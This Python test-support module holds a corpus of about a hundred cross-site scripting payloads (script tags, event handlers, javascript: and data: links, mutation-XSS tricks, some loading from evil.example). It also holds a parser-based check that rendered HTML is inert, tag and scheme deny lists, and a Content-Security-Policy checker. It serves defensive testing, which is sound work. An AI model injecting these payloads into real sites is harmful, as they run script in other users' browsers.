"""A corpus of cross-site scripting payloads, and a check that HTML holds nothing active.

``PAYLOADS`` is what a hostile user might type into any text field: raw HTML, Markdown links
and images with dangerous schemes, parser-confusion (mutation XSS) tricks. Every payload is
short (at most 150 characters), has no control characters other than tab and newline (the
app refuses those before anything is rendered), so it fits and reaches the page through
every text field, single-line ones included.

``assert_inert(html)`` fails when the HTML holds anything that could run script, load a
document or restyle the page: a dangerous element, an event-handler or ``style`` attribute,
a ``javascript:``/``data:``/``vbscript:`` address, or markup the parser could only read as
text (``<`` left raw in text: a browser might read it differently). Escaped text such as
``&lt;script&gt;`` is inert and passes. ``assert_inert(page, page=True)`` is the same check
for a whole page of the app, which legitimately holds forms, ``<meta>``, stylesheets and
its own ``<script src="/static/...">``.

``problems(html)`` lists what ``assert_inert`` would complain of. The HTML is read with
Python's own ``html.parser`` (neither lxml nor html5lib is installed here), built into a
small tree so that the part of a page holding user content can be checked on its own.

``assert_strict_csp(response)`` checks the Content-Security-Policy header: present, and no
inline or evaluated script.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser

# --- the corpus ----------------------------------------------------------------------------------

_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
_B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>

PAYLOADS: list[str] = [
    # --- script elements
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\n>alert(1)</script\n>",
    "<script/src=data:,alert(1)></script>",
    "<script>alert(1)//",
    # --- event handlers
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="x" OnError="alert(1)">',
    "<img src=x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a onmouseover=alert(1)>hover</a>",
    "<p onclick='alert(1)'>click me</p>",
    "<strong onmouseover=alert(1)>bold</strong>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    # --- dangerous schemes in Markdown links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    f"[x](data:text/html;base64,{_B64_SCRIPT})",
    "[x](jav&#x61;script:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#x20;javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    # --- reference links and autolinks
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: vbscript:msgbox(1) "t"',
    "[x][r]\n\n[r]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,alert(1)>",
    # --- raw HTML links
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    f'<a href="data:text/html;base64,{_B64_SCRIPT}">x</a>',
    "<a href=`javascript:alert(1)`>x</a>",
    '<a href="http://x" title="" onclick="alert(1)">x</a>',
    # --- Markdown images
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '![x](x "y\\" onerror=\\"alert(1)")',
    f"![x](data:image/svg+xml;base64,{_B64_SVG})",
    # --- title-attribute breakouts
    '[a](http://x "\\" onmouseover=alert(1)")',
    "[a](http://x 'x' onmouseover='alert(1)')",
    '[a](http://x "x&quot; onmouseover=&quot;alert(1)")',
    '[a](http://x "<script>alert(1)</script>")',
    '[a](http://x "\'><img src=x onerror=alert(1)>")',
    # --- SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction xlink:href="javascript:alert(1)">x</maction></math>',
    # --- frames, objects, forms
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    f'<embed src="data:image/svg+xml;base64,{_B64_SVG}">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    # --- CSS
    '<div style="width: expression(alert(1))">x</div>',
    '<style>@import "http://evil.example/x.css";</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    # --- document-level elements
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="http://evil.example/">',
    # --- comments, CDATA, processing instructions
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<? <img src=x onerror=alert(1)> ?>",
    # --- raw-text and template elements (mutation XSS)
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    # --- Markdown structures holding HTML
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "* [x](javascript:alert(1))\n* <svg onload=alert(1)>",
    # --- backticks and quotes
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "<img src=`x` onerror=`alert(1)`>",
    "'\"><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'';!--\"<XSS>=&{()}",
]


# --- parsing -------------------------------------------------------------------------------------

#: elements that run script, load or embed documents, submit data, restyle or redirect the page,
#: or whose contents browsers parse differently from the rest of the page (mutation XSS)
FORBIDDEN_TAGS = frozenset({
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "param",
    "style", "link", "meta", "base", "form", "input", "button", "select", "textarea",
    "svg", "math", "template", "noscript", "noembed", "noframes", "xmp", "plaintext",
    "isindex", "portal",
})
#: what a page of the app itself legitimately holds (each checked further below)
PAGE_TAGS = frozenset({"script", "link", "meta", "form", "input", "button", "select",
                       "textarea", "svg"})
#: attributes holding an address a browser may follow, load or run
URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "formaction", "xlink:href", "data", "background", "poster",
    "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "ping", "srcset", "manifest",
    "icon", "usemap", "classid", "archive", "to", "from", "values", "by",
})
#: schemes that run script or make a document out of the address itself
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
#: the one page link outside /static/: the web app manifest, served by DAP from its root
#: (dap/offline) so that its start URL and scope may be the whole site
OWN_MANIFEST = ("manifest", "/manifest.webmanifest")
#: what a browser's URL parser strips from both ends of an address, and removes anywhere
_C0_AND_SPACE = "".join(map(chr, range(0x21)))
_TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")
#: ``<`` that starts a tag, end tag, comment or declaration
_RAW_MARKUP = re.compile(r"<[A-Za-z/!?]")
VOID_TAGS = frozenset({"area", "base", "br", "col", "embed", "hr", "img", "input", "keygen",
                       "link", "meta", "param", "source", "track", "wbr", "isindex"})


@dataclass
class Element:
    """One element of the parsed document; ``text`` is its own text, still escaped."""

    tag: str
    attrs: list[tuple[str, str | None]]
    parent: Element | None = None
    children: list[Element] = field(default_factory=list)
    text: list[str] = field(default_factory=list)

    def attr(self, name: str) -> str | None:
        return next((v for k, v in self.attrs if k == name), None)

    def has(self, name: str) -> bool:
        return any(k == name for k, _ in self.attrs)

    def classes(self) -> set[str]:
        return set((self.attr("class") or "").split())

    def walk(self) -> Iterator[Element]:
        yield self
        for child in self.children:
            yield from child.walk()

    def describe(self) -> str:
        attrs = " ".join(f"{k}={v!r}" if v is not None else k for k, v in self.attrs)
        return f"<{self.tag}{' ' + attrs if attrs else ''}>"


class _TreeBuilder(HTMLParser):
    """A forgiving tree of the document. Character references are left as they are in text
    (``&lt;`` stays ``&lt;``), so that a raw ``<`` in text can be told from an escaped one;
    attribute values come decoded, as a browser reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.root = Element("#document", [])
        self.current = self.root
        self.oddities: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = Element(tag, attrs, parent=self.current)
        self.current.children.append(element)
        if tag not in VOID_TAGS:
            self.current = element

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.current.children.append(Element(tag, attrs, parent=self.current))

    def handle_endtag(self, tag: str) -> None:
        node: Element | None = self.current
        while node is not None and node.tag != tag:
            node = node.parent
        if node is not None and node.parent is not None:  # else a stray end tag: ignored
            self.current = node.parent

    def handle_data(self, data: str) -> None:
        self.current.text.append(data)

    def handle_entityref(self, name: str) -> None:
        self.current.text.append(f"&{name};")

    def handle_charref(self, name: str) -> None:
        self.current.text.append(f"&#{name};")

    def handle_comment(self, data: str) -> None:
        if "[if" in data.lower() or "<" in data:  # conditional comments; markup hidden inside
            self.oddities.append(f"comment holding markup: <!--{data}-->")

    def unknown_decl(self, data: str) -> None:
        self.oddities.append(f"declaration: <![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.oddities.append(f"processing instruction: <?{data}>")


def parse(html: str) -> tuple[Element, list[str]]:
    """The document's tree, and what the parser met that no clean HTML holds."""
    builder = _TreeBuilder()
    builder.feed(html)
    builder.close()
    return builder.root, builder.oddities


def find(root: Element, match: Callable[[Element], bool]) -> list[Element]:
    """Every element under ``root`` that ``match`` accepts (outermost only)."""
    found: list[Element] = []

    def visit(node: Element) -> None:
        for child in node.children:
            if match(child):
                found.append(child)
            else:
                visit(child)

    visit(root)
    return found


def with_class(name: str) -> Callable[[Element], bool]:
    return lambda element: name in element.classes()


# --- the checks ----------------------------------------------------------------------------------


def bad_url(value: str | None) -> bool:
    """Whether an attribute value is a script or data address, read as a browser's URL
    parser reads it: leading and trailing controls and spaces stripped, tabs and newlines
    removed anywhere, any case. The value comes with its character references decoded once,
    as a browser decodes them (what is still ``&#106;…`` after that is a relative address,
    and so is ``java    script:``: a space may not be part of a scheme)."""
    if value is None:
        return False
    url = _TAB_OR_NEWLINE.sub("", value.strip(_C0_AND_SPACE)).casefold()
    return url.startswith(BAD_SCHEMES)


def _element_problems(element: Element, *, page: bool) -> list[str]:
    problems: list[str] = []
    tag = element.tag
    if tag in FORBIDDEN_TAGS and not (page and tag in PAGE_TAGS):
        problems.append(f"forbidden element {element.describe()}")
    if page and tag == "script":
        if not (element.attr("src") or "").startswith("/static/"):
            problems.append(f"script not from /static/: {element.describe()}")
        if "".join(element.text).strip():
            problems.append(f"inline script: {''.join(element.text)[:80]!r}")
    if page and tag == "link" and not (element.attr("href") or "").startswith("/static/") \
            and (element.attr("rel"), element.attr("href")) != OWN_MANIFEST:
        problems.append(f"link not to /static/: {element.describe()}")
    for name, value in element.attrs:
        lowered = name.lower()
        if lowered.startswith("on"):
            problems.append(f"event handler {name}= on {element.describe()}")
        elif lowered == "style":
            problems.append(f"style attribute on {element.describe()}")
        elif lowered in ("srcdoc", "http-equiv"):
            problems.append(f"{name}= on {element.describe()}")
        elif (lowered in URL_ATTRIBUTES or lowered.endswith(":href")) and bad_url(value):
            problems.append(f"dangerous address {name}={value!r} on {element.describe()}")
    if tag not in ("script", "style"):  # their text is flagged with the element itself
        text = "".join(element.text)
        raw = _RAW_MARKUP.search(text)
        if raw:
            start = max(raw.start() - 20, 0)
            problems.append(f"unescaped markup in text of {element.describe()}: "
                            f"{text[start:raw.start() + 60]!r}")
    return problems


def problems(html: str | Element, *, page: bool = False,
             trusted: Callable[[Element], bool] | None = None) -> list[str]:
    """Everything active in ``html`` (a string, or an element of a parsed page). Elements
    that ``trusted`` accepts (the app's own, placed on purpose) are not looked at."""
    if isinstance(html, str):
        root, found = parse(html)
        found = list(found)
    else:
        root, found = html, []
    for element in root.walk():
        if element.tag != "#document" and not (trusted and trusted(element)):
            found += _element_problems(element, page=page)
    return found


def assert_inert(html: str | Element, *, page: bool = False, context: str = "",
                 trusted: Callable[[Element], bool] | None = None) -> None:
    """Fail, listing what is wrong, unless ``html`` holds nothing active.

    ``page=True`` accepts what a whole page of the app holds: its own scripts from
    ``/static/`` (with no inline code), stylesheets from ``/static/``, ``<meta>`` without
    ``http-equiv``, forms and their controls, and SVG charts, all still without event
    handlers, ``style`` attributes or script addresses. ``trusted`` as for ``problems``.
    """
    found = problems(html, page=page, trusted=trusted)
    if found:
        where = f" ({context})" if context else ""
        raise AssertionError(f"active markup{where}:\n  " + "\n  ".join(found))


# --- the Content-Security-Policy -----------------------------------------------------------------


def csp_directives(header: str) -> dict[str, list[str]]:
    directives: dict[str, list[str]] = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            directives.setdefault(words[0].lower(), [w.lower() for w in words[1:]])
    return directives


def assert_strict_csp(response) -> None:
    """The response carries a CSP whose scripts are the site's own files only: no inline
    script, no ``eval``, no ``data:`` or wildcard sources."""
    header = response.headers.get("Content-Security-Policy")
    assert header, "no Content-Security-Policy header"
    directives = csp_directives(header)
    script_src = directives.get("script-src", directives.get("default-src"))
    assert script_src is not None, f"no script-src nor default-src in {header!r}"
    for unsafe in ("'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "data:", "*",
                   "http:", "https:"):
        assert unsafe not in script_src, f"script-src allows {unsafe}: {header!r}"
    assert directives.get("object-src") == ["'none'"], f"object-src is not 'none': {header!r}"
    assert "base-uri" in directives, f"no base-uri in {header!r}"
